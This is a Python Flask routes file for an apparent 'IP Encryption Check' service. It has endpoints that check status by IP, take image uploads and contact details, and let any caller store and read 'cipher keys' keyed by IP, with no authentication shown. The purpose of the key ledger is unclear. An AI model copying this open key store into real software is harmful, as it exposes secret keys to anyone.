"""
Public endpoints: encryption status check, request submission, cipher-key ledger writes/reads.
Admin endpoints live in the module blueprints (modules/*/admin.py).
"""

from __future__ import annotations

from flask import Blueprint, current_app, request, send_file
from werkzeug.datastructures import FileStorage

from app.ipverify.audit import ACTOR_PUBLIC, record_event
from app.ipverify.constants import (
    ALLOWED_UPLOAD_EXTENSIONS,
    ATTACHMENT_PRIMARY,
    ATTACHMENT_SUPPORTING,
    UPLOAD_FIELDS,
)
from app.ipverify.db import db_session, run_with_retry, transaction
from app.ipverify.errors import NotFound, TransientStoreError, ValidationError
from app.ipverify.geo import GeoInfo
from app.ipverify.modules.action_ledger import service as ledger_service
from app.ipverify.modules.status_registry import service as registry_service
from app.ipverify.modules.status_registry.service import AttachmentInput, ContactInfo
from app.ipverify.notify import get_dispatcher
from app.ipverify.responses import ok
from app.ipverify.storage import LocalStorage, Storage, StorageError, attachment_key
from app.ipverify.utils import normalize_identity, parse_timestamp

bp = Blueprint("routes", __name__)


def _storage() -> Storage:
    return current_app.extensions["attachment_storage"]


def _enricher():
    client = current_app.extensions.get("geo_client")
    return client.lookup if client is not None else None


def _payload() -> dict:
    if request.is_json:
        data = request.get_json(silent=True)
        return data if isinstance(data, dict) else {}
    return request.form.to_dict()


def _collect_uploads() -> dict[str, list[FileStorage]]:
    limit = int(current_app.config.get("MAX_UPLOAD_FILES") or 5)
    out: dict[str, list[FileStorage]] = {ATTACHMENT_PRIMARY: [], ATTACHMENT_SUPPORTING: []}
    for field, kind in UPLOAD_FIELDS.items():
        files = [f for f in request.files.getlist(field) if f and f.filename]
        if len(files) > limit:
            raise ValidationError(f"At most {limit} files are allowed for '{field}'.")
        for f in files:
            ext = f.filename.rsplit(".", 1)[-1].lower() if "." in f.filename else ""
            if ext not in ALLOWED_UPLOAD_EXTENSIONS:
                raise ValidationError(
                    f"Unsupported file type for {f.filename!r}; allowed: {', '.join(sorted(ALLOWED_UPLOAD_EXTENSIONS))}."
                )
        out[kind] = files
    return out


def _enrich_new_record(identity: str) -> GeoInfo | None:
    """
    Geo lookup for a record created by the request that just committed. The lookup runs
    outside any transaction; its result is stored in a second short one. Best effort.
    """
    geo = registry_service.lookup_geo(_enricher(), identity)
    if geo is None:
        return None
    try:
        run_with_retry(
            current_app._get_current_object(),
            lambda s: registry_service.apply_enrichment(s, identity, geo),
        )
    except TransientStoreError as e:
        current_app.logger.warning("Geo enrichment for ip=%s not stored: %s", identity, e)
        return None
    return geo


def _discard_uploads(storage: Storage, stored: dict[str, list[AttachmentInput]]) -> None:
    for items in stored.values():
        for a in items:
            try:
                storage.delete(a.remote_id)
            except Exception as e:
                current_app.logger.error("Failed to clean up upload %s after failed submission: %s", a.remote_id, e)


@bp.get("/")
def index():
    return ok({"service": "IP Encryption Check API"})


@bp.get("/health")
def health():
    """Health check endpoint. Returns JSON."""
    return {"ok": True}


@bp.get("/healthz")
def healthz():
    """
    Fast health check for k8s/DO probes. No DB access, minimal overhead.
    """
    return "ok", 200


@bp.post("/api/check-encryption")
def check_encryption():
    identity = normalize_identity(_payload().get("ip"))

    def _lookup(s):
        rec, is_new = registry_service.lookup_or_create(s, identity)
        return {
            "ip": rec.identity,
            "encrypted": rec.is_verified,
            "encryptionStatus": rec.status,
            "newRecord": is_new,
            "accessCount": rec.access_count,
        }

    body = run_with_retry(current_app._get_current_object(), _lookup)
    if body["newRecord"]:
        _enrich_new_record(identity)
    return ok(body)


@bp.post("/api/request-encryption")
def request_encryption():
    form = request.form
    identity = normalize_identity(form.get("ip"))
    uploads = _collect_uploads()
    if not uploads[ATTACHMENT_PRIMARY]:
        raise ValidationError("Encryption card images are required")

    contact = ContactInfo(
        device_model=form.get("deviceModel"),
        os_version=form.get("osVersion"),
        email=form.get("email"),
        phone_number=form.get("phoneNumber"),
    )

    storage = _storage()
    stored: dict[str, list[AttachmentInput]] = {ATTACHMENT_PRIMARY: [], ATTACHMENT_SUPPORTING: []}
    try:
        for kind, files in uploads.items():
            for f in files:
                obj = storage.put_bytes(
                    attachment_key(identity, f.filename or ""),
                    f.read(),
                    content_type=(f.mimetype or "application/octet-stream").strip(),
                )
                stored[kind].append(AttachmentInput(remote_id=obj.remote_id, url=obj.url))

        s = db_session()
        with transaction(s):
            rec, is_new = registry_service.submit(
                s,
                identity,
                contact,
                stored[ATTACHMENT_PRIMARY],
                stored[ATTACHMENT_SUPPORTING],
            )
            record_event(
                s,
                actor=ACTOR_PUBLIC,
                action="status.submit",
                entity_type="StatusRecord",
                entity_id=rec.identity,
                metadata={
                    "primary": len(stored[ATTACHMENT_PRIMARY]),
                    "supporting": len(stored[ATTACHMENT_SUPPORTING]),
                },
            )
            body = registry_service.serialize_record(rec)
    except Exception:
        _discard_uploads(storage, stored)
        raise

    # Everything below runs after commit.
    geo = _enrich_new_record(rec.identity) if is_new else None
    if geo is not None:
        body["geo"] = geo.as_dict()
    notification = registry_service.build_notification(
        rec, stored[ATTACHMENT_PRIMARY], stored[ATTACHMENT_SUPPORTING], geo=geo
    )
    dispatcher = get_dispatcher(current_app)
    if dispatcher is not None:
        dispatcher.dispatch(notification)

    body["message"] = "Encryption request submitted successfully"
    return ok(body)


@bp.post("/api/cipher-keys")
def store_cipher_key():
    data = _payload()
    s = db_session()
    with transaction(s):
        entry = ledger_service.append(
            s,
            data.get("ip"),
            data.get("actionType"),
            data.get("cipherKey"),
            recorded_at=parse_timestamp(data.get("timestamp")),
        )
        body = {"id": entry.id, "timestamp": entry.recorded_at.isoformat()}
    return ok(body, 201)


@bp.get("/api/cipher-keys/<path:ip>")
def get_cipher_keys(ip: str):
    identity = normalize_identity(ip)

    def _query(s):
        return [ledger_service.serialize_entry(e) for e in ledger_service.query_by_identity(s, identity)]

    entries = run_with_retry(current_app._get_current_object(), _query)
    return ok({"count": len(entries), "entries": entries})


@bp.get("/uploads/<path:key>")
def serve_upload(key: str):
    storage = _storage()
    if not isinstance(storage, LocalStorage):
        raise NotFound("File not found")
    try:
        if not storage.exists(key):
            raise NotFound("File not found")
        fobj = storage.open(key)
    except StorageError:
        raise NotFound("File not found") from None
    return send_file(fobj, download_name=key.rsplit("/", 1)[-1], max_age=0)
